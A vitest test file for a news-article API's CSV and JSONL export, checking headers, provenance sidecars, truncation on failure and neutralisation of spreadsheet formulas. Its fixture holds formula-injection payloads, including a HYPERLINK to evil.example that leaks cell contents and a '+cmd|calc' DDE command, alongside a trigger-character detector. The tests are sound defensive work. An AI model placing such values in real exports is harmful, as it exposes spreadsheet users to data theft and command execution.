import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CSV_COLUMNS } from '@/lib/api/export-format';
import { exportProvenanceSchema } from '@/lib/api/export-provenance';
import { ContractChecker } from '@/lib/api/testing/contract';
import { FIXTURE_ARTICLES, makeArticle } from '@/lib/api/testing/articles';
import { setUpApiEnv, type ApiTestEnv } from '@/lib/api/testing/api-server';
import { createMeiliClient } from '@/lib/meili/client';
import { testMeili } from '@/lib/testing/meili-fixture';
import { sendResponse } from '@/server/send-response';
import * as exportRoute from './export/route';

const EVIL_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"click"), then';
const ARTICLES = [
  ...FIXTURE_ARTICLES,
  makeArticle({
    id: 'e1',
    title: EVIL_TITLE,
    organizations: ['+cmd|calc'],
    people: ['@SUM(1+1)', '-2+3'],
    countries: ['NZ'],
    source: '=wire',
  }),
];

const contract = new ContractChecker();
let t: ApiTestEnv;
beforeAll(async () => {
  t = await setUpApiEnv(ARTICLES);
});
afterAll(async () => t?.cleanup());

async function get(path: string) {
  const url = `http://api.test/api/v1${path}`;
  const res = await exportRoute.GET(new Request(url));
  await contract.check(url, res);
  return res;
}

/** A cell no spreadsheet runs: no OWASP trigger first, none behind leading blanks. */
const formulaSafe = (cell: string) =>
  // eslint-disable-next-line no-control-regex -- control characters are triggers
  !/^[=+\-@\t\r\n\u0000]/.test(cell) && !/^[\s\u0000]*[=+\-@＝＋－＠]/.test(cell);

/** As pandas or a spreadsheet reads a download: the first line is the header, nothing skipped. */
const readCsv = (text: string) => parse<Record<string, string>>(text, { columns: true });
const cellsOf = (text: string) => parse(text).flat();
/** A CSV sidecar's `field,value` rows as an object. */
const sidecarFields = (text: string): Record<string, string> =>
  Object.fromEntries(parse(text, { from_line: 2 }).map(([k = '', v = '']) => [k, v]));

describe('CSV export read as a spreadsheet user reads it', () => {
  it('first line is the header row; every other line is an article; the count is in a header', async () => {
    const res = await get('/export?format=csv&country=FR');
    const text = await res.text();
    const records = readCsv(text);
    expect(Object.keys(records[0] ?? {})).toEqual([...CSV_COLUMNS]);
    expect(records.map((r) => r.id)).toEqual(['a1', 'a8', 'a3', 'a4']);
    expect(res.headers.get('x-facetwire-total')).toBe(String(records.length));
    expect(text.split('\n').some((line) => line.startsWith('#'))).toBe(false);
  });

  it('stored formulas come out inert, in every cell', async () => {
    const text = await (await get('/export?format=csv&country=NZ')).text();
    expect(readCsv(text)).toEqual([
      expect.objectContaining({
        id: 'e1',
        title: `'${EVIL_TITLE}`,
        source: "'=wire",
        organizations: "'+cmd|calc",
        people: "'@SUM(1+1); -2+3",
      }),
    ]);
    expect(cellsOf(text).filter((c) => !formulaSafe(c))).toEqual([]);
  });

  it('a query with commas and a formula never becomes cells of its own', async () => {
    const q = encodeURIComponent('x,=1+1,y');
    const res = await get(`/export?format=csv&q=${q}&organization=${encodeURIComponent('=2+5')}`);
    const text = await res.text();
    expect(parse(text)).toEqual([[...CSV_COLUMNS]]);
    expect(decodeURIComponent(res.headers.get('x-facetwire-query')!)).toBe('x,=1+1,y');
    const sidecar = await (
      await get(`/export?format=csv&q=${encodeURIComponent('=1+1,y')}&provenance=1`)
    ).text();
    const fields = sidecarFields(sidecar);
    expect(fields.query).toBe("'=1+1,y");
    expect(cellsOf(sidecar).filter((c) => !formulaSafe(c))).toEqual([]);
  });
});

describe('export provenance', () => {
  const path = '/export?format=csv&q=oil&exclude.country=DE&sort=newest';

  it('is in the headers of the file', async () => {
    const res = await get(path);
    const h = (name: string) => res.headers.get(name);
    expect(h('content-type')).toBe('text/csv; charset=utf-8');
    expect(decodeURIComponent(h('x-facetwire-query')!)).toBe('oil');
    expect(h('x-facetwire-filters')).toBe('exclude.country=DE');
    expect(h('x-facetwire-order')).toBe('newest');
    expect(h('x-facetwire-total')).toBe('2');
    expect(h('x-facetwire-generated-at')).toMatch(/^\d{4}-\d\d-\d\dT/);
    expect(h('x-facetwire-index-version')).toMatch(new RegExp(`^${t.indexUid}@`));
    expect(h('x-facetwire-source')).toBe(`http://api.test/api/v1${path}`);
    expect(h('link')).toBe(`<http://api.test/api/v1${path}&provenance=1>; rel="describedby"`);
    expect(readCsv(await res.text()).map((r) => r.id)).toEqual(['a1', 'a6']);
  });

  it('and in a sidecar to keep with it: field,value CSV for csv, JSON for jsonl', async () => {
    const csv = await get(`${path}&provenance=1`);
    expect(csv.headers.get('content-disposition')).toMatch(/\.provenance\.csv"$/);
    const fields = sidecarFields(await csv.text());
    expect(fields).toMatchObject({
      format: 'csv',
      query: 'oil',
      filters: 'exclude.country=DE',
      order: 'newest',
      total: '2',
      source: `http://api.test/api/v1${path}`,
    });
    const json = await get('/export?format=jsonl&q=oil&provenance=true');
    expect(json.headers.get('content-type')).toBe('application/json');
    const p = exportProvenanceSchema.parse(await json.json());
    expect(p).toMatchObject({ format: 'jsonl', query: 'oil', filters: {}, total: 3, scope: null });
    expect(p.source).toBe('http://api.test/api/v1/export?format=jsonl&q=oil');
  });

  it('JSON Lines holds articles only, as many as the total says', async () => {
    const res = await get('/export?format=jsonl&q=oil');
    const rows = (await res.text())
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { id: string; title: string });
    expect(rows.map((r) => r.id)).toEqual(['a1', 'a3', 'a6']);
    expect(rows.every((r) => typeof r.title === 'string')).toBe(true);
    expect(res.headers.get('x-facetwire-total')).toBe('3');
  });
});

describe('an export that fails after its first row', () => {
  let server: Server | undefined;
  afterAll(() => server?.close());

  // Last in this file: it drops the index. The web server's own sendResponse writes the answer.
  it('is cut off (an incomplete download), not ended with a row that reads as data', async () => {
    server = createServer((req, res) => {
      void exportRoute.GET(new Request(`http://api.test${req.url}`)).then(async (response) => {
        // Counted already; paging now fails.
        await createMeiliClient(testMeili().conn).deleteIndex(t.indexUid).waitTask();
        sendResponse(res, response, 'GET', 'identity');
      });
    });
    await new Promise<void>((ok) => server!.listen(0, '127.0.0.1', ok));
    const { port } = server.address() as AddressInfo;
    const res = await fetch(`http://127.0.0.1:${port}/api/v1/export?format=csv`, {
      headers: { 'Accept-Encoding': 'identity' },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('x-facetwire-total')).toBe(String(ARTICLES.length));
    await expect(res.text()).rejects.toThrow();
  });
});
